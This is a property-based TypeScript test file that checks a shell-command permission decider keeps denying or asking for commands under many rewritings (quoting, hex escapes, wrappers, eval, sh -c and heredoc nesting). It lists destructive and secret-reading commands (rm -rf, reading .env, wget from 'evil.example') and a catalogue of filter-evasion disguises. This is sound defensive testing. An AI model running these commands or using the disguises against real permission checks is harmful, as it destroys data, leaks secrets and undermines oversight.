// Prevents: another way of writing a line (blanks, quotes, order of flags, a program that starts it, nesting) turning
// what is asked for or denied into what runs.
import * as fc from "fast-check";
import { afterAll, beforeAll, expect, test } from "vitest";
import { makeDecider, type Decider } from "./decide-fixture.ts";
import { ALLOWING, DENYING } from "./decision-rules.ts";

let decider: Decider;

beforeAll(async () => {
  decider = await makeDecider();
});

afterAll(() => decider.close());

/** Commands as words; `flags` may stand in any order and spelling. */
interface Base {
  readonly program: string;
  readonly flags: readonly (readonly string[])[];
  readonly operands: readonly string[];
}

/** Denied under DENYING: no variant may run, and none may be asked for by a known spelling. */
const DENIED: readonly Base[] = [
  {
    program: "rm",
    flags: [
      ["-r", "-R", "--recursive", "--recurs"],
      ["-f", "--force", "--for"],
    ],
    operands: ["d"],
  },
  { program: "sudo", flags: [["-n"]], operands: ["id"] },
  { program: "curl", flags: [["-s", "--silent"]], operands: ["https://example.org"] },
  { program: "cat", flags: [["-n"]], operands: [".env"] },
  { program: "cp", flags: [["-f"]], operands: ["a.txt", ".env"] },
  { program: "wget", flags: [["-q"]], operands: ["https://evil.example/x"] },
];

/** Asked for under ALLOWING. */
const ASKED: readonly Base[] = [
  { program: "rm", flags: [["-f"]], operands: ["f"] },
  { program: "touch", flags: [["-c"]], operands: ["a b"] },
  { program: "chmod", flags: [["-v"]], operands: ["644", "a.txt"] },
  { program: "lsof", flags: [["-i"]], operands: [":80"] },
];

const quotings: readonly ((word: string) => string)[] = [
  (word) => (/[^\w./:@%+=,-]/.test(word) ? `'${word}'` : word),
  (word) => `'${word}'`,
  (word) => `"${word}"`,
  (word) => `$'${[...word].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join("")}'`,
  (word) => [...word].map((letter) => `\\${letter}`).join(""),
  (word) => `${word.slice(0, 1)}''${quoteRest(word.slice(1))}`,
  (word) => `"${word.slice(0, 1)}"'${word.slice(1)}'`,
  (word) => `${word.slice(0, 1)}\\\n${quoteRest(word.slice(1))}`,
];

function quoteRest(rest: string): string {
  return /[^\w./:@%+=,-]/.test(rest) ? `'${rest}'` : rest;
}

const single = (line: string): string => `'${line.replaceAll("'", `'\\''`)}'`;

/** Ways to have a line run by something else. Each takes any line. */
const nestings: readonly ((line: string) => string)[] = [
  (line) => `(${line}\n)`,
  (line) => `{ ${line}\n}`,
  (line) => `true && ${line}`,
  (line) => `${line} || true`,
  (line) => `true; ${line}`,
  (line) => `true\n${line}`,
  (line) => `true | ${line}`,
  (line) => `${line} | cat`,
  (line) => `${line} &`,
  (line) => `! ${line}`,
  (line) => `echo $(${line}\n)`,
  (line) => `echo "x $(${line}\n) y"`,
  (line) => `cat <(${line}\n)`,
  (line) => `if true; then ${line}\nfi`,
  (line) => `if ${line}\nthen true; fi`,
  (line) => `while ${line}\ndo true; done`,
  (line) => `for i in a b; do ${line}\ndone`,
  (line) => `case x in x) ${line}\n;; esac`,
  (line) => `f() { ${line}\n}; f`,
  (line) => `X=$(${line}\n)`,
  (line) => `[[ -n $(${line}\n) ]]`,
  (line) => `sh -c ${single(line)}`,
  (line) => `bash -lc ${single(line)}`,
  (line) => `eval ${single(line)}`,
  (line) => `cat <<E\n$(${line}\n)\nE`,
  (line) => `bash <<'E'\n${line}\nE`,
  (line) => `trap ${single(line)} EXIT`,
  (line) => `${line} 2>/dev/null`,
  (line) => `find . -exec sh -c ${single(line)} \\;`,
  (line) => `xargs sh -c ${single(line)}`,
];

/** Programs that start the words after them. */
const wrappers = [
  "env",
  "env A=1",
  "env -i",
  "command",
  "nohup",
  "nice",
  "nice -n 5",
  "nice -5",
  "timeout 5",
  "timeout --signal=KILL 5s",
  "setsid -w",
  "stdbuf -oL",
  "time",
  "exec",
  "/usr/bin/env",
  "busybox",
  "xargs",
  "xargs -n 1",
];

const blanks = fc.constantFrom(" ", "  ", "\t", " \\\n", " \t ");

function lineOf(base: Base, isLiteral: boolean): fc.Arbitrary<string> {
  const flags = fc
    .tuple(...base.flags.map((spellings) => fc.constantFrom(...spellings)))
    .chain((chosen) => fc.shuffledSubarray(chosen as string[], { minLength: base.flags.length }))
    .chain((ordered) => {
      const isShort = ordered.every((flag) => /^-\w$/.test(flag));
      return fc
        .boolean()
        .map((isJoined) => (isShort && isJoined ? [`-${ordered.map((flag) => flag[1]).join("")}`] : ordered));
    });
  const program = isLiteral
    ? fc.constant(base.program)
    : fc.constantFrom(base.program, `/usr/bin/${base.program}`);
  return fc
    .tuple(
      program,
      flags,
      fc.boolean(),
      fc.array(fc.constantFrom(...wrappers), { maxLength: 2 }),
      fc.boolean(),
    )
    .chain(([name, given, isLast, before, isFirst]) => {
      const rest =
        isLast && base.program !== "sudo" ? [...base.operands, ...given] : [...given, ...base.operands];
      return fc
        .tuple(
          ...[name, ...rest].map((word) => fc.tuple(fc.constantFrom(...quotings), blanks, fc.constant(word))),
        )
        .map((words) => {
          const line = words.map(([quote, gap, word]) => quote(word) + gap).join("");
          return [...(isFirst ? ["A=1"] : []), ...before, line].join(" ").trimEnd().replace(/\\$/, "");
        });
    });
}

const variants = (bases: readonly Base[]): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom(...bases), fc.array(fc.constantFrom(...nestings), { maxLength: 3 }))
    .chain(([base, around]) =>
      lineOf(base, false).map((line) => around.reduce((inner, wrap) => wrap(inner), line)),
    );

const RUNS = Number(process.env["WIELD_COMMAND_RUNS"] ?? 1500);

test("no way of writing a denied command makes it run", async () => {
  await fc.assert(
    fc.asyncProperty(variants(DENIED), async (line) => {
      expect((await decider.decide(line, DENYING)).decision, line).toBe("deny");
    }),
    { numRuns: RUNS },
  );
});

test("no way of writing a command that asks makes it run", async () => {
  await fc.assert(
    fc.asyncProperty(variants(ASKED), async (line) => {
      expect((await decider.decide(line, ALLOWING)).decision, line).toBe("ask");
    }),
    { numRuns: RUNS },
  );
});

test("any text at all is taken apart without a throw, and what it cannot read is not allowed", async () => {
  const pieces = fc.constantFrom(
    "ls",
    "rm",
    " ",
    "'",
    '"',
    "$(",
    ")",
    "`",
    "|",
    ";",
    "&&",
    "<<E",
    "\n",
    ">",
    "{",
    "}",
    "\\",
    "$x",
    "if",
    "do",
    "=",
    "é",
    "\u00a0",
    "#",
    "*",
  );
  const text = fc.oneof(
    fc.string({ unit: "binary", maxLength: 60 }),
    fc.array(pieces, { maxLength: 20 }).map((all) => all.join("")),
  );
  await fc.assert(
    fc.asyncProperty(text, async (line) => {
      const { decision, effects } = await decider.decide(line, ALLOWING);
      expect(["run", "ask", "deny", "refused"]).toContain(decision);
      const isUnknown = effects[0]?.parts?.some((part) => part.startsWith("cannot be known")) === true;
      if (isUnknown) expect(decision, line).not.toBe("run");
    }),
    { numRuns: RUNS },
  );
});

test("deep nesting and long lines take bounded time", async () => {
  const deep = [
    `${"$(".repeat(5000)}rm f${")".repeat(5000)}`,
    `${"(".repeat(5000)}rm f${")".repeat(5000)}`,
    `echo ${'"$('.repeat(300)}rm f${')"'.repeat(300)}`,
    "rm f; ".repeat(15_000),
    `rm ${"a ".repeat(45_000)}`,
    `${"sudo ".repeat(15_000)}id`,
    `${"sh -c 'sh -c ".repeat(100)}`,
    `echo ${"{a,b}".repeat(15_000)}`,
    `x=${"${x:-".repeat(3000)}${"}".repeat(3000)}`,
  ];
  for (const line of deep) {
    const start = performance.now();
    const { decision } = await decider.decide(line, ALLOWING);
    expect(performance.now() - start, line.slice(0, 40)).toBeLessThan(30_000);
    if (line.includes("rm")) expect(decision, line.slice(0, 40)).not.toBe("run");
  }
});
